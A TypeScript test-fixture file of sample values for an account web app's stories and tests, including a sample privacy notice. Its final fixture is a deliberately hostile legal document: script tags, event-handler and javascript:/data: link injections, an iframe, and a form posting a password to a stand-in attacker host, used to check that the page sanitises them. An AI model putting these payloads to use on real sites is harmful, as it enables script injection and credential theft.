// Sample values a person or another system supplies at run time (an address
// typed, a service's registered name, a phone's last digits, a wait the server
// words itself), shared by the pages' stories and the tests that look at them.
// None is a product string, so none is translated.
export const SAMPLE = {
  email: 'someone@example.com',
  otherEmail: 'other@example.org',
  /** A further address the person added and has not confirmed yet. */
  pendingEmail: 'pending@example.net',
  /** A third further address: with the two above, as many as an account may have. */
  thirdEmail: 'third@example.net',
  senderEmail: 'accounts@localhost',
  serviceName: 'Monitor',
  displayName: 'Ada Lovelace',
  phoneDigits: '1234',
  /** A subscription's product, as the subscription system names it. */
  productName: 'Orbit VPN',
  wait: 'in 15 minutes',
  /** A relying party's own scope, which the consent screen names as it is. */
  customScope: 'https://identity.example.com/apps/notes',
} as const;

/**
 * A legal document as the server might send it, and its texts as the page
 * shows them: the document is the deployment's content, not a product string.
 */
export const SAMPLE_LEGAL = {
  markdown: [
    '# Example Privacy Notice',
    '',
    'We keep only what your account needs.',
    '',
    '## What we collect',
    '',
    '- Your email address',
    '- The devices you sign in with',
    '',
    '## Where to learn more',
    '',
    '- [Privacy help pages](https://help.example.org/privacy)',
    '- [Account settings](/settings)',
  ].join('\n'),
  texts: [
    'Example Privacy Notice',
    'We keep only what your account needs.',
    'What we collect',
    'Your email address',
    'The devices you sign in with',
    'Where to learn more',
    'Privacy help pages',
    'Account settings',
  ],
} as const;

/**
 * A legal document written to attack the page: scripts, frames, event
 * handlers, raw HTML and links to javascript: and data: addresses. The page
 * must show its words and nothing else; the texts are what is left to see.
 */
export const SAMPLE_HOSTILE_LEGAL = {
  markdown: [
    '# Hostile notice <script></script>',
    '',
    '<script>window.__legalAttack = "script block"</script>',
    '',
    '<iframe src="https://attacker.example/frame" title="frame"></iframe>',
    '',
    '<img src="x" onerror="window.__legalAttack = \'onerror\'">',
    '',
    '<a href="javascript:window.__legalAttack=\'raw link\'" onclick="window.__legalAttack=\'onclick\'">raw html link</a>',
    '',
    '<div style="position:fixed;inset:0;background:red" onmouseover="window.__legalAttack=\'hover\'">overlay</div>',
    '',
    '<form action="https://attacker.example/steal"><input name="password"></form>',
    '',
    '- [Script link](javascript:window.__legalAttack=\'link\')',
    '- [Data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '- [Encoded link](jav&#x09;ascript:window.__legalAttack=\'encoded\')',
    '- ![Tracking pixel](https://attacker.example/pixel.png)',
    '- [Help pages](https://help.example.org/)',
  ].join('\n'),
  texts: ['Hostile notice', 'raw html link', 'Script link', 'Data link', 'Encoded link', 'Help pages'],
} as const;
